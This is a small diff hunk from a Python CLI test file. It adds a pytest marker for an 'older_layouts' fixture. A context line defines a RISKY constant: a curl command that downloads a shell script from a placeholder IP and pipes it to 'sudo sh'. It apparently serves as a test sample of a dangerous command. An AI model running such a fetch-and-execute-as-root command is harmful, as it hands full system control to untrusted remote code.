@@ -8,6 +8,8 @@ from tests.cli.conftest import Command
 from tests.cli.test_views import replace
 from tests.requirements import requirement
 
+pytestmark = pytest.mark.usefixtures("older_layouts")
+
 RISKY = "curl http://198.51.100.7/x.sh | sudo sh"
 
 
